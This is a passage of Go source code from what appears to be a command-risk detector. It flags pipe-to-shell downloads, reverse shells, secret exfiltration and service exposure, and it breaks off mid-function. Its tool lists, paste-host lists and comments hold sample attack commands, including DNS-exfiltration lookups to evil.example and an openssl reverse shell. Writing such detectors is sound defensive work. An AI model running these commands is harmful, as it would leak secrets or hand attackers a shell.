package riskmodel

import (
	"net"
	"net/url"
	"path"
	"strings"

	"github.com/guardianhq/guardian/riskmodel/catalog"
)

// fetchers download data; their output may feed an interpreter.
var fetchers = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"curl": true, "wget": true, "fetch": true, "http": true, "https": true, "xh": true, "aria2c": true,
		"lwp-request": true, "GET": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true}
}}

// interpreters run code from stdin when given no script.
var interpreters = table[map[string]bool]{build: func() map[string]bool {
	m := map[string]bool{"python": true, "python3": true, "python2": true, "node": true, "perl": true, "ruby": true,
		"php": true, "deno": true, "bun": true, "lua": true, "Rscript": true, "pwsh": true, "powershell": true, "osascript": true, "tclsh": true}
	for n := range ecoInterps.get() {
		m[n] = true
	}
	return m
}}

func isFetcher(s *Segment) bool {
	n := s.Name()
	if n == "openssl" {
		return s.sub(0) == "s_client"
	}
	return fetchers.get()[n]
}

// urls returns the URLs a network command names (with or without scheme for curl/wget).
func urls(s *Segment) []*url.URL {
	var out []*url.URL
	if len(s.Args) == 0 {
		return nil
	}
	for _, a := range s.Args[1:] {
		if strings.HasPrefix(a, "-") && !strings.Contains(a, "://") {
			continue
		}
		if i := strings.Index(a, "://"); i > 0 {
			if u, err := url.Parse(a[strings.LastIndexAny(a[:i], "=@ ")+1:]); err == nil && u.Host != "" {
				out = append(out, u)
			}
			continue
		}
		if (s.Name() == "curl" || s.Name() == "wget" || s.Name() == "http" || s.Name() == "xh") && looksLikeHost(a) {
			if u, err := url.Parse("http://" + a); err == nil {
				out = append(out, u)
			}
		}
	}
	return out
}

func looksLikeHost(a string) bool {
	h := a
	if i := strings.IndexAny(h, "/:"); i >= 0 {
		h = h[:i]
	}
	if h == "localhost" {
		return true
	}
	if h != a && catalog.ParseIP(h) != nil && strings.ContainsAny(h, "0123456789") {
		return true // 2130706433:2375/x, 0x7f000001/, 127.1:8080: an address in any spelling, with a port or path
	}
	dot := strings.LastIndexByte(h, '.')
	return dot > 0 && dot < len(h)-1 && !strings.ContainsAny(h, "@=$ ") && !strings.HasSuffix(h, ".json") && !strings.HasSuffix(h, ".txt")
}

// isLocalHost reports whether h names this machine, in any spelling the catalogue knows
// (127.1, 2130706433, [::ffff:127.0.0.1], localhost.); wildcard-DNS names such as
// 127.0.0.1.nip.io are not local.
func isLocalHost(h string) bool { return catalog.Default().IsLoopback(h) }

func (c *execCtx) trustedHost(h string) bool {
	if catalog.International(h) {
		return false // a look-alike of a trusted host is not it (ToLower would even fold a Kelvin sign to k)
	}
	h = strings.ToLower(h)
	if isLocalHost(h) {
		return true
	}
	for _, g := range c.pol.TrustedHosts {
		if ok, _ := path.Match(strings.ToLower(g), h); ok {
			return true
		}
	}
	return false
}

// allFrom reports whether every URL of the segments is local, trusted, or (with vendors) a
// well-known installer.
func (c *execCtx) allFrom(ss []*Segment, vendors bool) bool {
	n := 0
	for _, s := range ss {
		for _, u := range urls(s) {
			n++
			if _, ok := catalog.Default().LoopbackService(u.Hostname(), u.Port()); ok {
				return false // Docker, Vault, DevTools on loopback: not a harmless local call
			}
			if c.trustedHost(u.Hostname()) {
				continue
			}
			if vendors && isVendorInstaller(u) {
				continue
			}
			return false
		}
	}
	return n > 0
}

// isVendorInstaller reports a vendor's documented installer: the exact host, and the
// vendor's own path where others can publish on the same host (deno.land/x is not Deno's).
func isVendorInstaller(u *url.URL) bool {
	_, ok := catalog.Default().Vendor(u)
	return ok
}

// pipeSources returns the segments feeding s through pipes, nearest first.
func pipeSources(s *Segment) []*Segment {
	var out []*Segment
	for p := s.PipeIn; p != nil && len(out) < 64; p = p.PipeIn {
		out = append(out, p)
	}
	return out
}

// runsStdin reports whether s is an interpreter that executes what arrives on stdin (or a
// process substitution, /dev/stdin).
func runsStdin(s *Segment) bool {
	n := s.Name()
	if !shells.get()[n] && !interpreters.get()[n] && n != "source" && n != "." {
		return false
	}
	for _, a := range s.Args[1:] {
		if a == "/dev/fd/63" || a == "/dev/stdin" || a == "-" {
			return true
		}
	}
	if n == "source" || n == "." {
		return false
	}
	if shells.get()[n] {
		_, hasC := shellCode(s.Args[1:])
		return !hasC && scriptless(s.Args[1:])
	}
	for _, a := range s.Args[1:] {
		if !strings.HasPrefix(a, "-") {
			return false
		}
		if a == "-c" || a == "-e" || a == "-r" || a == "-m" || a == "--eval" || a == "-E" {
			return false
		}
	}
	return true
}

// remoteFeeds returns the fetchers whose output s executes as code read on stdin: through
// a pipe (however many filters between), a process substitution in its arguments, or a
// downloaded file redirected into it (flow.go carries the taint along those edges).
func (c *execCtx) remoteFeeds(s *Segment) []*Segment {
	if !runsStdin(s) {
		return nil
	}
	var out []*Segment
	for _, p := range pipeSources(s) {
		if isFetcher(p) {
			out = append(out, p)
		}
	}
	for _, f := range s.Runs.from(taintFetched) {
		if isFetcher(f) && !containsSeg(out, f) {
			out = append(out, f)
		}
	}
	return out
}

func containsSeg(ss []*Segment, s *Segment) bool {
	for _, o := range ss {
		if o == s {
			return true
		}
	}
	return false
}

// sends reports whether a segment sends data to a remote host, and where.
func sends(s *Segment) (dest string, ok bool) {
	host := func() string {
		if us := urls(s); len(us) > 0 {
			return us[0].Hostname()
		}
		return "a remote host"
	}
	switch s.Name() {
	case "curl":
		if s.hasFlag("dFT", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--form", "--upload-file", "--json", "--form-string") {
			return host(), true
		}
		if m, ok := optValue(s.Args[1:], "-X", "--request"); ok && (m == "POST" || m == "PUT" || m == "PATCH") && s.PipeIn != nil {
			return host(), true
		}
	case "wget":
		if _, ok := s.argPrefix("--post-data", "--post-file", "--body-data", "--body-file", "--method=POST", "--method=PUT"); ok {
			return host(), true
		}
	case "http", "https", "xh", "xhs":
		for _, a := range s.Args[1:] {
			if strings.Contains(a, "=") && !strings.HasPrefix(a, "-") && !strings.Contains(a, "://") || strings.HasPrefix(a, "@") || httpieFile(a) != "" {
				return host(), true
			}
		}
	case "nc", "ncat", "netcat", "telnet", "socat":
		if s.PipeIn != nil || hasInputRedirect(s) {
			return "a network socket", true
		}
	case "scp", "rsync", "sftp":
		if s.Name() == "rsync" && s.hasFlag("n", "--dry-run") {
			return "", false
		}
		p := s.positional(0, "-i", "-P", "-p", "-e", "-o", "-F", "-l", "-J", "--rsh", "--exclude", "--include", "--filter")
		if len(p) >= 2 && isRemoteSpec(p[len(p)-1]) {
			return strings.SplitN(p[len(p)-1], ":", 2)[0], true
		}
		if s.Name() == "sftp" && (feedsData(s) || s.hasFlag("b")) {
			return remoteOf(s), true // put commands from a batch file or stdin
		}
	case "mail", "mailx", "sendmail", "mutt", "swaks", "msmtp", "neomutt", "s-nail":
		return "an email recipient", true
	case "openssl":
		if s.sub(0) == "s_client" && feedsData(s) {
			if h, ok := optValue(s.Args[1:], "-connect"); ok {
				return strings.SplitN(h, ":", 2)[0], true
			}
			return "a TLS connection", true
		}
	case "lftp", "smbclient", "ftp", "tftp":
		if feedsData(s) || s.hasFlag("b", "--batch") || hasPutScript(s) {
			return remoteOf(s), true
		}
	}
	if dest, ok := transferSink(s); ok {
		return dest, true
	}
	if dest, ok := dnsSink(s); ok {
		return dest, true
	}
	if dest, ok := gitPushSink(s); ok {
		return dest, true
	}
	if dest, ok := streamSink(s); ok {
		return dest, true
	}
	if fetchers.get()[s.Name()] || s.Name() == "http" {
		for _, u := range urls(s) {
			if u.RawQuery != "" || u.User != nil || u.Path != "" {
				if ms := FindSecrets(u.String()); len(ms) > 0 {
					return u.Hostname(), true // a GET that carries a secret in its URL
				}
			}
		}
	}
	return "", false
}

// substitutions returns the segments of the request that ran inside a command substitution
// and so may feed s's arguments (dig $(printenv TOKEN).x.example).
func (c *execCtx) substitutions(s *Segment) []*Segment {
	dynamic := false
	for _, a := range s.Args[1:] {
		if strings.Contains(a, "$(") || strings.Contains(a, "`") {
			dynamic = true
		}
	}
	if !dynamic {
		return nil
	}
	var out []*Segment
	for _, o := range c.segs {
		if o != s && hasVia(o, "$(…)") {
			out = append(out, o)
		}
	}
	return out
}

// feedsData reports whether a segment reads its standard input from a pipe, a file, a here
// document or a here-string — anything but /dev/null.
func feedsData(s *Segment) bool {
	if s.PipeIn != nil && !emptyFeed(s.PipeIn) || s.Stdin != "" {
		return true
	}
	for _, r := range s.Redirs {
		if (r.Op == "<" && r.Target != "/dev/null") || r.Op == "<<<" || r.Op == "<<" {
			return true
		}
	}
	return false
}

// emptyFeed reports a pipe source that writes nothing but a newline or a quit command: the
// `echo | openssl s_client …` and `echo Q | …` idioms that only close the session
// (docs/policy.md: certificate checks stay allow).
func emptyFeed(p *Segment) bool {
	if p.Name() != "echo" && p.Name() != "printf" || len(p.Redirs) > 0 || p.PipeIn != nil {
		return false
	}
	for _, a := range p.Args[1:] {
		switch a {
		case "", "-n", "-e", "Q", "q", "QUIT", "quit", "\\n":
		default:
			return false
		}
	}
	return true
}

// hasPutScript reports an lftp/smbclient command script (-e/-c) that uploads.
func hasPutScript(s *Segment) bool {
	v, ok := optValue(s.Args[1:], "-e", "-c")
	if !ok {
		return false
	}
	v = " " + strings.ToLower(v) + " "
	return strings.Contains(v, " put ") || strings.Contains(v, " mput ") || strings.Contains(v, "mirror -r") || strings.Contains(v, "mirror --reverse") || strings.Contains(v, " reput ")
}

// remoteOf returns the host a session command (sftp, lftp, smbclient) names.
func remoteOf(s *Segment) string {
	for _, a := range s.positional(0, "-b", "-e", "-c", "-u", "-p", "-P", "-U", "-W", "-i", "-o", "-F") {
		a = strings.TrimPrefix(strings.TrimPrefix(a, "//"), "\\\\")
		if i := strings.Index(a, "://"); i > 0 {
			a = a[i+3:]
		}
		if at := strings.LastIndexByte(a, '@'); at >= 0 {
			a = a[at+1:]
		}
		return strings.FieldsFunc(a, func(r rune) bool { return r == ':' || r == '/' || r == '\\' })[0]
	}
	return "a remote host"
}

// transferSinks are copy tools whose destination may be remote storage, with the
// subcommands that copy. Sources: rclone.org/commands, s3tools.org/usage, min.io/docs (mc),
// learn.microsoft.com azcopy, cloud.google.com/storage/docs/gsutil, aws s3 reference.
var transferSinks = table[map[string][]string]{build: func() map[string][]string {
	return map[string][]string{
		"rclone": {"copy", "copyto", "sync", "move", "moveto", "rcat", "copyurl"},
		"s3cmd":  {"put", "sync", "cp", "mv"},
		"mc":     {"cp", "mirror", "mv", "pipe"},
		"azcopy": {"copy", "cp", "sync"},
		"gsutil": {"cp", "rsync", "mv"},
		"aws":    {"s3 cp", "s3 sync", "s3 mv"},
		"gcloud": {"storage cp", "storage rsync", "storage mv"},
		"rsync":  nil, "scp": nil,
	}
}}

// transferSink reports a copy to remote storage: the destination (last positional) is
// remote while some source is local.
func transferSink(s *Segment) (string, bool) {
	n := s.Name()
	subs, ok := transferSinks.get()[n]
	if !ok || subs == nil {
		return "", false
	}
	p := s.positional(0, "--exclude", "--include", "--filter", "--config", "--transfers", "--bwlimit", "--max-age", "--region", "--profile", "--storage-class",
		"--content-type", "--cache-control", "--acl", "--sse", "--sse-kms-key-id", "--expected-size", "--include-pattern", "--exclude-pattern")
	words := 1
	for _, sub := range subs {
		if strings.Contains(sub, " ") {
			words = 2
		}
	}
	if len(p) < words {
		return "", false
	}
	verb := strings.Join(p[:words], " ")
	if !slicesContains(subs, verb) {
		return "", false
	}
	args := p[words:]
	if len(args) == 0 {
		return "", false
	}
	dst := args[len(args)-1]
	srcs := args[:len(args)-1]
	if verb == "rcat" || verb == "pipe" { // reads stdin
		if feedsData(s) && remoteStorage(n, dst) {
			return dst, true
		}
		return "", false
	}
	if !remoteStorage(n, dst) {
		return "", false
	}
	for _, a := range srcs {
		if !remoteStorage(n, a) {
			return dst, true
		}
	}
	if len(srcs) == 0 && feedsData(s) {
		return dst, true
	}
	return "", false
}

// remoteStorage reports an argument naming remote storage for the tool: a URL, s3:// / gs://
// / az://, rclone's remote:path, mc's alias/bucket.
func remoteStorage(tool, a string) bool {
	if a == "-" {
		return false
	}
	if i := strings.Index(a, "://"); i > 0 {
		return !strings.HasPrefix(a, "file://")
	}
	switch tool {
	case "rclone":
		i := strings.IndexByte(a, ':')
		return i > 0 && !strings.ContainsAny(a[:i], "/\\.~") // remote:path, not C:\ or ./x:y
	case "mc":
		return !strings.HasPrefix(a, "/") && !strings.HasPrefix(a, ".") && !strings.HasPrefix(a, "~") && strings.Contains(a, "/")
	}
	return false
}

func slicesContains(xs []string, x string) bool {
	for _, v := range xs {
		if v == x {
			return true
		}
	}
	return false
}

// dnsTools resolve names; a name built from data carries that data to whoever serves the
// domain (DNS exfiltration; MITRE ATT&CK T1048.003 / T1071.004).
var dnsTools = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"dig": true, "nslookup": true, "host": true, "drill": true, "ping": true, "ping6": true, "kdig": true,
		"delv": true, "getent": true, "resolvectl": true, "traceroute": true, "q": true, "doggo": true, "dog": true}
}}

// dnsSink reports a name lookup whose name is built from a value the request computes: a
// variable or command substitution followed by a literal domain ("$TOKEN.x.evil.example",
// "$(whoami|base64).evil.example"). A bare "$HOST" is an ordinary lookup.
func dnsSink(s *Segment) (string, bool) {
	if !dnsTools.get()[s.Name()] {
		return "", false
	}
	for _, a := range s.Args[1:] {
		if strings.HasPrefix(a, "-") || strings.HasPrefix(a, "+") || strings.HasPrefix(a, "@") {
			continue
		}
		i := strings.IndexByte(a, '$')
		if i < 0 {
			continue
		}
		j := strings.LastIndexAny(a, ")}")
		rest := a[i+1:]
		if j > i {
			rest = a[j+1:]
		} else {
			k := 0
			for k < len(rest) && (mcpIsIdentByte(rest[k]) || rest[k] == '{') {
				k++
			}
			rest = rest[k:]
		}
		if rest = strings.TrimLeft(rest, "-_"); strings.HasPrefix(rest, ".") && strings.Count(rest, ".") >= 2 {
			return strings.TrimPrefix(rest, "."), true
		}
	}
	return "", false
}

// gitPushSink reports a git push straight to a URL or scp-style address (not a configured
// remote): the repository's content leaves for a destination the request names itself.
func gitPushSink(s *Segment) (string, bool) {
	p, ok := gitPush(s)
	if !ok || p.remote == "" {
		return "", false
	}
	if h, ok := gitURLHost(p.remote); ok {
		return h, true
	}
	return "", false
}

// gitURLHost returns the host of a git URL (https://h/…, ssh://h/…, user@h:path), and false
// for a remote name or a local path.
func gitURLHost(r string) (string, bool) {
	if i := strings.Index(r, "://"); i > 0 {
		if strings.HasPrefix(r, "file://") {
			return "", false
		}
		rest := r[i+3:]
		if at := strings.IndexByte(rest, '@'); at >= 0 && at < strings.IndexByte(rest+"/", '/') {
			rest = rest[at+1:]
		}
		h := strings.FieldsFunc(rest, func(c rune) bool { return c == '/' || c == ':' })
		if len(h) > 0 {
			return h[0], true
		}
		return "", false
	}
	if isRemoteSpec(r) && strings.Contains(r, "@") {
		h := strings.SplitN(r, ":", 2)[0]
		return h[strings.LastIndexByte(h, '@')+1:], true
	}
	return "", false
}

func hasInputRedirect(s *Segment) bool {
	for _, r := range s.Redirs {
		if r.Op == "<" || r.Op == "<<<" || r.Op == "<<" {
			return true
		}
	}
	return s.Stdin != ""
}

// isRemoteSpec reports whether an scp/rsync argument names a remote path (host:path).
func isRemoteSpec(a string) bool {
	i := strings.IndexByte(a, ':')
	if i <= 0 || strings.Contains(a[:i], "/") {
		return false
	}
	return !strings.HasPrefix(a[i:], "://")
}

func netRules() []*Rule {
	return []*Rule{
		{
			ID: "net.pipe-to-shell", Level: Critical, Category: CatRemoteCodeExecution,
			Message: "Downloads code from the internet and runs it unseen",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				feeds := c.remoteFeeds(s)
				if len(feeds) == 0 || c.allFrom(feeds, true) {
					return "", false
				}
				return "Downloads code from " + describeHosts(feeds) + " and runs it with " + s.Name() + " without review", true
			},
		},
		{
			ID: "net.pipe-to-shell-vendor", Level: High, Category: CatRemoteCodeExecution,
			Message: "Runs a well-known vendor installer downloaded from the internet",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				feeds := c.remoteFeeds(s)
				if len(feeds) == 0 || !c.allFrom(feeds, true) {
					return "", false
				}
				return "Runs the installer downloaded from " + describeHosts(feeds) + " with " + s.Name(), true
			},
		},
		{
			ID: "net.download-exec", Level: Critical, Category: CatRemoteCodeExecution,
			Message: "Downloads a file and then executes it",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				if executedFile(s) == "" && !s.Runs.has(taintFetched) {
					return "", false
				}
				for _, o := range s.Runs.from(taintFetched) {
					if !isFetcher(o) && !fetchesContent(o) && o.Name() != "git" || c.allFrom([]*Segment{o}, true) {
						continue
					}
					if runsStdin(s) && isFetcher(o) {
						continue // net.pipe-to-shell
					}
					what := executedFile(s)
					if what == "" {
						what = "it"
					}
					return "Downloads code from " + describeHosts([]*Segment{o}) + " and executes " + what + " with " + s.Name(), true
				}
				return "", false
			},
		},
		{
			ID: "net.eval-remote", Level: Critical, Category: CatRemoteCodeExecution,
			Message: "Evaluates code fetched from the network",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				if !runsDynamicCode(s) {
					return "", false
				}
				for _, o := range s.Runs.from(taintFetched) {
					if !c.allFrom([]*Segment{o}, false) {
						return "Runs code fetched from " + describeHosts([]*Segment{o}) + " through " + s.Name(), true
					}
				}
				return "", false
			},
		},
		{
			ID: "net.reverse-shell", Level: Critical, Category: CatRemoteCodeExecution,
			Message: "Opens a shell to a remote host (a reverse shell)",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				for _, r := range s.Redirs {
					if strings.HasPrefix(r.Target, "/dev/tcp/") || strings.HasPrefix(r.Target, "/dev/udp/") {
						return "Connects " + s.Name() + " to " + r.Target + ", giving a remote host a shell", true
					}
				}
				for _, a := range s.Args {
					if strings.HasPrefix(a, "/dev/tcp/") || strings.HasPrefix(a, "/dev/udp/") {
						return "Opens a raw network connection through " + a, true
					}
				}
				switch s.Name() {
				case "nc", "ncat", "netcat":
					if s.hasFlag("ec", "--exec", "--sh-exec", "--lua-exec") {
						return "Runs a program attached to a network connection with " + s.Name() + " -e", true
					}
					if s.PipeIn != nil {
						for _, p := range pipeSources(s) {
							if shells.get()[p.Name()] {
								return "Pipes an interactive shell to a network connection", true
							}
						}
					}
				case "openssl", "telnet":
					// sh -i <FIFO | openssl s_client -connect HOST:PORT >FIFO (GTFOBins openssl
					// reverse-shell): an interactive shell piped into a network client.
					if s.PipeIn != nil && (s.Name() == "telnet" || s.sub(0) == "s_client") {
						for _, p := range pipeSources(s) {
							if shells.get()[p.Name()] {
								return "Pipes an interactive shell to a network connection with " + s.Name(), true
							}
						}
					}
				case "socat":
					// A program is attached to a connection only when the other address is a
					// network one: socat - EXEC:sh or EXEC:… OPEN:file stays on this machine.
					if !socatNetAddr(s.Args[1:]) {
						break
					}
					for _, a := range s.Args[1:] {
						l := strings.ToLower(a)
						if strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "system:") {
							return "Attaches a program to a network connection with socat", true
						}
					}
				}
				return "", false
			},
		},
		{
			ID: "net.secret-sink", Level: Critical, Category: CatDataExfiltration,
			Message: "Carries a secret out in a URL, a DNS name or an upload, whatever the flag",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				dest, ok := sends(s)
				if !ok || c.trustedHost(dest) {
					return "", false
				}
				carried := func(o *Segment) (string, bool) {
					for _, a := range o.Args[1:] {
						for _, v := range secretVarRefs(a) {
							if !tokenBelongsTo(v, dest) {
								return "$" + v, true
							}
						}
					}
					return "", false
				}
				if v, ok := carried(s); ok {
					return "Sends " + v + " to " + dest + ", a destination that secret does not belong to", true
				}
				for _, o := range append(pipeSources(s), c.substitutions(s)...) {
					if v, ok := carried(o); ok && (o.Name() == "echo" || o.Name() == "printf" || o.Name() == "printenv") {
						return "Sends " + v + " to " + dest, true
					}
					if v, ok := printsSecretVar(o); ok {
						return "Sends " + v + " to " + dest, true
					}
				}
				if _, ok := dnsSink(s); ok {
					return "", false
				}
				for _, u := range urls(s) {
					if ms := FindSecrets(u.String()); len(ms) > 0 {
						return "Sends a secret (" + ms[0].Kind + ") in the URL to " + u.Hostname(), true
					}
				}
				return "", false
			},
		},
		{
			ID: "net.upload", Level: High, Category: CatDataExfiltration,
			CertainWhen: "files or piped output go to a raw public IP address (scp and rsync too), an anonymous file-drop or paste service, a personal mailbox or an account named personal, or an archive of files goes to a chat webhook",
			Message:     "Sends local data to a remote host",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				dest, ok := sends(s)
				if !ok {
					return "", false
				}
				if us := urls(s); len(us) > 0 && c.allFrom([]*Segment{s}, false) {
					return "", false
				}
				if isLocalHost(dest) {
					return "", false
				}
				if where := uncontrolledDest(s, dest); where != "" && sendsFileData(s) {
					c.certainty = certaintySure // docs/policy.md: data to raw IPs, pastes, outside email
					return "Sends local files or command output to " + where + " with " + s.Name(), true
				}
				return "Sends local data to " + dest + " with " + s.Name(), true
			},
		},
		{
			ID: "net.remote-shell", Level: High, Category: CatNetworkEgress,
			CertainWhen: "a remote forward (-R) publishes a local port on a tunnel service or on every interface of the remote host",
			Message:     "Runs commands on a remote machine over SSH",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				switch s.Name() {
				case "ssh", "mosh", "telnet", "rsh", "autossh":
					if msg := publicRemoteForward(s); msg != "" {
						c.certainty = certaintySure // docs/policy.md: tunnels that expose local services
						return msg, true
					}
					if s.Name() == "ssh" && s.hasFlag("TV") && strings.Contains(strings.Join(s.Args, " "), "git@") {
						return "", false
					}
					if s.Name() == "telnet" && s.PipeIn != nil {
						return "", false
					}
					p := s.positional(0, "-i", "-p", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-W", "-b", "-c", "-E", "-e", "-m", "-O", "-Q", "-S", "-w", "-B")
					if len(p) == 0 {
						return "", false
					}
					if len(p) > 1 {
						return "Runs `" + capText(strings.Join(p[1:], " ")) + "` on the remote host " + p[0], true
					}
					return "Opens a shell on the remote host " + p[0], true
				}
				return "", false
			},
		},
		{
			ID: "net.expose", Level: High, Category: CatDataExfiltration,
			CertainWhen: "the home directory or / is served to the network, or a cluster service is opened on every interface",
			Message:     "Exposes a local service or files to the network",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				switch s.Name() {
				case "kubectl", "oc":
					if addr := portForwardAllInterfaces(s); addr != "" {
						// docs/policy.md: tunnels that expose services; a cluster's service
						// opened to every network the machine is on.
						c.certainty = certaintySure
						return "Opens a cluster service to every network this machine is on (port-forward --address " + addr + ")", true
					}
				case "nc", "ncat", "netcat":
					if s.hasFlag("l", "--listen") {
						return "Listens for network connections with " + s.Name(), true
					}
				case "python", "python3":
					if s.arg("http.server", "SimpleHTTPServer") {
						if b, ok := optValue(s.Args[1:], "--bind", "-b"); ok && b != "0.0.0.0" && isLocalHost(b) {
							return "", false
						}
						dir := c.scope.Cwd
						if d, ok := optValue(s.Args[1:], "-d", "--directory"); ok {
							if abs, ok := c.scope.Resolve(d); ok {
								dir = abs
							}
						}
						if !c.scope.CwdUnknown && (dir == c.scope.Home || dir == "/") {
							// The home directory or / holds every credential store: serving
							// it to the network publishes them.
							c.certainty = certaintySure
							return "Serves " + c.scope.Pretty(dir) + ", with every key and credential in it, to the whole network with " + s.Name() + " -m http.server", true
						}
						return "Serves the current directory to the whole network with " + s.Name() + " -m http.server", true
					}
				}
				return "", false
			},
		},
		{
			ID: "net.mutating-request", Level: Medium, Category: CatNetworkEgress,
			Message: "Sends a request that changes something on a remote service",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				m := httpMethod(s)
				switch strings.ToUpper(m) {
				case "POST", "PUT", "PATCH", "DELETE":
				default:
					return "", false
				}
				if _, sending := sends(s); sending || c.allFrom([]*Segment{s}, false) {
					return "", false
				}
				return "Sends an HTTP " + strings.ToUpper(m) + " to " + describeHosts([]*Segment{s}), true
			},
		},
		{
			// docs/policy.md denies bulk deletion of data the user never mentioned: an HTTP
			// DELETE of an index pattern is that, whatever service answers it.
			ID: "net.bulk-delete-request", Level: High, Category: CatDataDeletion,
			Message: "Sends an HTTP DELETE of a wildcard or all-matching target",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				m := httpMethod(s)
				if !strings.EqualFold(m, "DELETE") && !(strings.EqualFold(m, "POST") && strings.Contains(strings.Join(s.Args, " "), "_delete_by_query")) {
					return "", false
				}
				for _, u := range urls(s) {
					if isLocalHost(u.Hostname()) {
						continue
					}
					if what := bulkDeleteURL(u.String()); what != "" {
						return "Deletes " + what + " with an HTTP " + strings.ToUpper(m) + ", which matches many indices or records", true
					}
				}
				return "", false
			},
		},
		{
			ID: "net.insecure-tls", Level: Medium, Category: CatSecurityWeakening,
			Message: "Turns off TLS certificate checks for a remote download",
			exec: func(c *execCtx, s *Segment) (string, bool) {
				if !(s.Name() == "curl" && s.hasFlag("k", "--insecure") || s.Name() == "wget" && s.arg("--no-check-certificate")) {
					return "", false
				}
				if c.allFrom([]*Segment{s}, false) {
					return "", false
				}
				return "Downloads from " + describeHosts([]*Segment{s}) + " without checking its TLS certificate", true
			},
		},
	}
}

// runsDynamicCode reports whether s runs shell code it does not know (eval, sh -c with an
// unresolved script).
func runsDynamicCode(s *Segment) bool {
	if !s.Dynamic {
		return false
	}
	n := s.Name()
	if n == "eval" {
		return true
	}
	if shells.get()[n] {
		code, ok := shellCode(s.Args[1:])
		return ok && strings.Contains(code, "$")
	}
	if n == "source" || n == "." {
		return true
	}
	return false
}

// executedFile returns the file a segment executes as a program or script, "" if none.
func executedFile(s *Segment) string {
	n := s.Name()
	if len(s.Args) == 0 {
		return ""
	}
	if strings.Contains(s.Args[0], "/") && n != "" {
		return s.Args[0]
	}
	if n == "php" {
		return phpScript(s.Args[1:])
	}
	if n == "deno" || n == "bun" {
		return runtimeFile(s)
	}
	if e := ecoInterps.get()[n]; e != nil {
		if e.hasCode(s.Args[1:]) {
			return ""
		}
		return e.executedFile(s.Args[1:])
	}
	if n == "pwsh" || n == "powershell" {
		return pwshScriptFile(s.Args[1:]) // r18win_pwsh.go
	}
	if shells.get()[n] || interpreters.get()[n] || n == "source" || n == "." {
		if _, hasC := shellCode(s.Args[1:]); hasC {
			return ""
		}
		for _, a := range s.Args[1:] {
			if a == "-m" {
				return "" // a module, not a file
			}
			if !strings.HasPrefix(a, "-") {
				return a
			}
		}
	}
	return ""
}

// downloadedFiles returns the absolute paths a fetcher writes.
func downloadedFiles(c *execCtx, s *Segment) []string {
	var out []string
	for _, t := range writeTargets(c, s) {
		if t.abs != "" {
			out = append(out, t.abs)
		}
	}
	if s.Name() == "wget" && !s.hasFlag("O", "--output-document") || s.Name() == "curl" && s.hasFlag("O", "--remote-name") {
		for _, u := range urls(s) {
			if b := path.Base(u.Path); b != "" && b != "/" && b != "." {
				out = append(out, path.Join(c.scope.Cwd, b))
			}
		}
	}
	return out
}

func describeHosts(ss []*Segment) string {
	var hosts []string
	seen := map[string]bool{}
	for _, s := range ss {
		for _, u := range urls(s) {
			h := u.Hostname()
			if !seen[h] {
				seen[h] = true
				hosts = append(hosts, h)
			}
		}
	}
	if len(hosts) == 0 {
		return "the network"
	}
	return strings.Join(hosts, ", ")
}

// dropHosts are anonymous file-drop, paste and request-capture services: whatever is sent
// there is public or in a stranger's hands. Sources: each service's own front page
// (transfer.sh, 0x0.st, file.io, temp.sh, bashupload.com, catbox.moe, litterbox.catbox.moe,
// termbin.com, ix.io, paste.rs, sprunge.us, clbin.com, pastebin.com, hastebin.com,
// dpaste.com, paste.ee, webhook.site, requestbin.com, pipedream.net, oshi.at, filebin.net, gofile.io).
var dropHosts = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"transfer.sh": true, "0x0.st": true, "file.io": true, "temp.sh": true, "bashupload.com": true,
		"catbox.moe": true, "litterbox.catbox.moe": true, "termbin.com": true, "ix.io": true, "paste.rs": true, "sprunge.us": true,
		"clbin.com": true, "pastebin.com": true, "hastebin.com": true, "dpaste.com": true, "dpaste.org": true, "paste.ee": true,
		"webhook.site": true, "requestbin.com": true, "pipedream.net": true, "oshi.at": true, "filebin.net": true, "gofile.io": true}
}}

// personalMailDomains are free mailboxes: a recipient there is a person, not the company.
var personalMailDomains = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"gmail.com": true, "googlemail.com": true, "yahoo.com": true, "outlook.com": true,
		"hotmail.com": true, "live.com": true, "icloud.com": true, "me.com": true, "aol.com": true, "proton.me": true,
		"protonmail.com": true, "gmx.com": true, "gmx.de": true, "yandex.ru": true, "mail.ru": true, "qq.com": true, "163.com": true}
}}

// uncontrolledDest names a destination nobody in the project controls: a raw public IP
// address, a drop or paste service (or a subdomain of one), a personal mailbox. "" otherwise.
func uncontrolledDest(s *Segment, dest string) string {
	host := strings.ToLower(strings.Trim(dest, "[]"))
	switch s.Name() {
	case "nc", "ncat", "netcat", "socat", "telnet":
		if p := s.positional(0, "-p", "-s", "-w", "-i", "-q", "-e", "-c"); len(p) > 0 {
			host = strings.ToLower(p[0])
		}
	case "mail", "mailx", "sendmail", "mutt", "neomutt", "s-nail", "swaks", "msmtp":
		for _, a := range s.Args[1:] {
			if at := strings.LastIndexByte(a, '@'); at > 0 && !strings.HasPrefix(a, "-") && personalMailDomains.get()[strings.ToLower(strings.Trim(a[at+1:], ">'\""))] {
				return "the personal mailbox " + a
			}
		}
		return ""
	}
	if at := strings.LastIndexByte(host, '@'); at >= 0 {
		host = host[at+1:] // scp user@1.2.3.4:/tmp
	}
	if acct := personalAccount(s, dest); acct != "" {
		return acct
	}
	if chat := chatWebhook(s); chat != "" && sendsArchive(s) {
		return chat
	}
	if ip := net.ParseIP(host); ip != nil {
		// docs/policy.md names raw IPs among the hosts that are not the project's own, for
		// scp/rsync/sftp as much as for HTTP: a project's servers have names.
		if !ip.IsPrivate() && !ip.IsLoopback() && !ip.IsLinkLocalUnicast() && !ip.IsUnspecified() {
			return "the raw IP address " + host
		}
		return ""
	}
